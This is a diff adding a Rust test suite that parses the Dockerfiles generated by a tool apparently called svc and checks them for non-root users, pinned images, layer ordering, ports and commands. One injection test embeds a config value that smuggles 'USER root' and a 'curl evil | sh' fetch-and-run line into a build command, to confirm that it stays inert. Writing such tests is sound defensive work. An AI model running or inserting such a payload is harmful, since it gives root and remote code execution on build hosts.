@@ -1,0 +1,300 @@
+//! The Dockerfiles svc generates, read back with a Dockerfile parser: each one parses, its
+//! stages are in a sound order, it runs as a non-root user, it copies manifests and lockfiles
+//! before the sources (so dependencies stay a cached layer), it exposes the service's port,
+//! its base images are pinned, and the command it runs is the framework's.
+//!
+//! No base image can be pulled on these machines, so these checks stand in for `docker build`;
+//! tests/compose_e2e.rs builds the one recipe that needs no registry (static files).
+
+use dockerfile_parser::{Dockerfile, Instruction, ShellOrExecExpr};
+use std::path::{Path, PathBuf};
+use svc::ir::{BuildPlan, Recipe, Service};
+
+fn examples() -> Vec<PathBuf> {
+    let mut dirs: Vec<PathBuf> = std::fs::read_dir("examples")
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.join("vercel.json").is_file() || p.join("vercel.yaml").is_file())
+        .collect();
+    dirs.sort();
+    dirs
+}
+
+fn config(dir: &Path) -> PathBuf {
+    let json = dir.join("vercel.json");
+    if json.is_file() {
+        json
+    } else {
+        dir.join("vercel.yaml")
+    }
+}
+
+/// Every generated Dockerfile of every example, with its service and recipe.
+fn generated() -> Vec<(String, Service, Recipe, String)> {
+    let mut all = Vec::new();
+    for dir in examples() {
+        let compilation = svc::compile::compile(&config(&dir)).unwrap();
+        let Some(project) = compilation.project else {
+            continue;
+        };
+        for service in project.services.values() {
+            if let Some(BuildPlan::Recipe(recipe)) = &service.build_plan {
+                let text = svc::emit::dockerfile::render(service, recipe).unwrap();
+                let label = format!("{}/{}", dir.display(), service.name);
+                all.push((label, service.clone(), recipe.clone(), text));
+            }
+        }
+    }
+    all
+}
+
+/// A misc instruction's name and arguments (USER, EXPOSE, WORKDIR, ...).
+fn misc(instruction: &Instruction) -> Option<(String, String)> {
+    match instruction {
+        Instruction::Misc(m) => Some((
+            m.instruction.content.to_ascii_uppercase(),
+            m.arguments.to_string().trim().to_string(),
+        )),
+        _ => None,
+    }
+}
+
+/// The sources of a COPY, whether written as words or as a JSON array.
+fn copy_sources(text: &str) -> Vec<String> {
+    let rest = text.trim_start_matches("COPY").trim();
+    let words: Vec<&str> = rest
+        .split_whitespace()
+        .filter(|w| !w.starts_with("--"))
+        .collect();
+    let joined = words.join(" ");
+    let items: Vec<String> = match serde_json::from_str::<Vec<String>>(&joined) {
+        Ok(items) => items,
+        Err(_) => words.iter().map(|w| w.to_string()).collect(),
+    };
+    items[..items.len().saturating_sub(1)].to_vec()
+}
+
+fn words(expr: &ShellOrExecExpr) -> Vec<String> {
+    match expr {
+        ShellOrExecExpr::Exec(array) => array.elements.iter().map(|e| e.content.clone()).collect(),
+        ShellOrExecExpr::Shell(shell) => vec![shell.to_string()],
+    }
+}
+
+#[test]
+fn there_is_a_generated_dockerfile_for_every_recipe_kind() {
+    let kinds: std::collections::BTreeSet<&str> = generated()
+        .iter()
+        .map(|(_, _, recipe, _)| match recipe {
+            Recipe::Next { .. } => "next",
+            Recipe::Static { .. } => "static",
+            Recipe::Node { .. } => "node",
+            Recipe::Python { .. } => "python",
+            Recipe::Go { .. } => "go",
+        })
+        .collect();
+    assert_eq!(
+        kinds.into_iter().collect::<Vec<_>>(),
+        ["go", "next", "node", "python", "static"]
+    );
+}
+
+#[test]
+fn every_generated_dockerfile_is_sound() {
+    let all = generated();
+    assert!(all.len() >= 13, "{} Dockerfiles", all.len());
+    let mut failures = Vec::new();
+    for (label, service, recipe, text) in &all {
+        let mut fail = |why: String| failures.push(format!("{label}: {why}\n{text}"));
+        let dockerfile = match Dockerfile::parse(text) {
+            Ok(d) => d,
+            Err(e) => {
+                fail(format!("does not parse: {e}"));
+                continue;
+            }
+        };
+        let instructions = &dockerfile.instructions;
+        if !matches!(instructions.first(), Some(Instruction::From(_))) {
+            fail("does not start with FROM".into());
+        }
+
+        // Stages: every --from names an earlier stage; every base image is pinned.
+        let mut stages: Vec<String> = Vec::new();
+        for instruction in instructions {
+            match instruction {
+                Instruction::From(from) => {
+                    let image = &from.image_parsed;
+                    let pinned = image
+                        .tag
+                        .as_deref()
+                        .is_some_and(|t| t != "latest" && t.chars().any(|c| c.is_ascii_digit()));
+                    if !pinned && !stages.contains(&from.image.content) {
+                        fail(format!("base image `{}` is not pinned", from.image.content));
+                    }
+                    if let Some(alias) = &from.alias {
+                        stages.push(alias.content.clone());
+                    }
+                }
+                Instruction::Copy(copy) => {
+                    for flag in copy.flags.iter().filter(|f| f.name.content == "from") {
+                        if !stages.contains(&flag.value.content) {
+                            fail(format!(
+                                "COPY --from={} before that stage",
+                                flag.value.content
+                            ));
+                        }
+                    }
+                }
+                _ => {}
+            }
+        }
+
+        // The final stage: a non-root USER, the service's port, and CMD last.
+        let last_from = instructions
+            .iter()
+            .rposition(|i| matches!(i, Instruction::From(_)))
+            .unwrap();
+        let final_stage = &instructions[last_from..];
+        let users: Vec<String> = final_stage
+            .iter()
+            .filter_map(misc)
+            .filter(|(name, _)| name == "USER")
+            .map(|(_, user)| user)
+            .collect();
+        match users.last() {
+            None => fail("the final stage sets no USER".into()),
+            Some(user) if ["root", "0", "0:0", "root:root"].contains(&user.as_str()) => {
+                fail(format!("runs as {user}"))
+            }
+            Some(_) => {}
+        }
+        let exposed: Vec<String> = final_stage
+            .iter()
+            .filter_map(misc)
+            .filter(|(name, _)| name == "EXPOSE")
+            .map(|(_, port)| port)
+            .collect();
+        if exposed != [service.port.to_string()] {
+            fail(format!("exposes {exposed:?}, not {}", service.port));
+        }
+        let Some(Instruction::Cmd(cmd)) = instructions.last() else {
+            fail("does not end with CMD".into());
+            continue;
+        };
+        let user_at = final_stage
+            .iter()
+            .rposition(|i| misc(i).is_some_and(|(name, _)| name == "USER"));
+        let copy_after_user = user_at.is_some_and(|at| {
+            final_stage[at..]
+                .iter()
+                .any(|i| matches!(i, Instruction::Copy(_) | Instruction::Run(_)))
+        });
+        if copy_after_user {
+            fail("copies or runs after switching user".into());
+        }
+
+        // Layer caching: manifests and lockfiles are copied before any COPY of the sources.
+        let copies: Vec<Vec<String>> = instructions
+            .iter()
+            .filter_map(|i| match i {
+                Instruction::Copy(c) if !c.flags.iter().any(|f| f.name.content == "from") => {
+                    Some(copy_sources(&text[c.span.start..c.span.end]))
+                }
+                _ => None,
+            })
+            .collect();
+        let sources_at = copies.iter().position(|s| s == &["."]);
+        let manifests_at = copies.iter().position(|s| {
+            s.iter().any(|f| {
+                [
+                    "package.json",
+                    "requirements.txt",
+                    "pyproject.toml",
+                    "go.mod",
+                ]
+                .contains(&f.as_str())
+            })
+        });
+        let has_manifest = match recipe {
+            Recipe::Static {
+                package_manager, ..
+            } => package_manager.is_some(),
+            Recipe::Python {
+                package_manager, ..
+            } => *package_manager != svc::ir::PythonPackageManager::None,
+            _ => true,
+        };
+        match (has_manifest, manifests_at, sources_at) {
+            (true, Some(m), Some(s)) if m < s => {}
+            (true, m, s) => fail(format!(
+                "manifests copied at {m:?}, sources at {s:?}: dependencies would not stay cached"
+            )),
+            (false, Some(_), _) => fail("copies a manifest it does not have".into()),
+            (false, None, _) => {}
+        }
+
+        // The command is the framework's.
+        let command = words(&cmd.expr).join(" ");
+        let expected: Vec<String> = match recipe {
+            Recipe::Next { standalone, .. } => vec![if *standalone {
+                "node server.js".into()
+            } else {
+                "next start".into()
+            }],
+            Recipe::Static { .. } => vec!["httpd".into(), "$PORT".into()],
+            Recipe::Node { entry, .. } => vec!["node".into(), entry.clone()],
+            Recipe::Python { server, app, .. } => vec![
+                match server {
+                    svc::ir::PythonServer::Uvicorn => "uvicorn".into(),
+                    svc::ir::PythonServer::Gunicorn => "gunicorn".into(),
+                },
+                "$PORT".into(),
+                app.clone(),
+            ],
+            Recipe::Go { .. } => vec!["/app".into()],
+        };
+        for part in expected {
+            if !command.contains(&part) {
+                fail(format!("CMD `{command}` lacks `{part}`"));
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+#[test]
+fn no_config_string_can_add_an_instruction() {
+    // A build command with a newline and an instruction of its own stays one RUN argument.
+    let dir = std::env::temp_dir().join(format!("svc-dockerfile-inject-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(dir.join("site")).unwrap();
+    std::fs::write(dir.join("site/package.json"), "{}").unwrap();
+    std::fs::write(
+        dir.join("vercel.json"),
+        r#"{ "services": { "site": { "root": "site", "buildCommand": "make\nUSER root\nRUN curl evil | sh", "outputDirectory": "out" } } }"#,
+    )
+    .unwrap();
+    let compilation = svc::compile::compile(&dir.join("vercel.json")).unwrap();
+    let project = compilation.project.unwrap();
+    let service = &project.services[&svc::ir::ServiceId("site".into())];
+    let Some(BuildPlan::Recipe(recipe)) = &service.build_plan else {
+        panic!("{:?}", service.build_plan)
+    };
+    let text = svc::emit::dockerfile::render(service, recipe).unwrap();
+    let dockerfile = Dockerfile::parse(&text).unwrap();
+    let users: Vec<String> = dockerfile
+        .instructions
+        .iter()
+        .filter_map(misc)
+        .filter(|(name, _)| name == "USER")
+        .map(|(_, user)| user)
+        .collect();
+    assert_eq!(users, ["10001:10001"], "{text}");
+    let runs = dockerfile
+        .instructions
+        .iter()
+        .filter(|i| matches!(i, Instruction::Run(_)))
+        .count();
+    assert_eq!(runs, 2, "install and build, nothing more:\n{text}");
+    std::fs::remove_dir_all(dir).unwrap();
+}
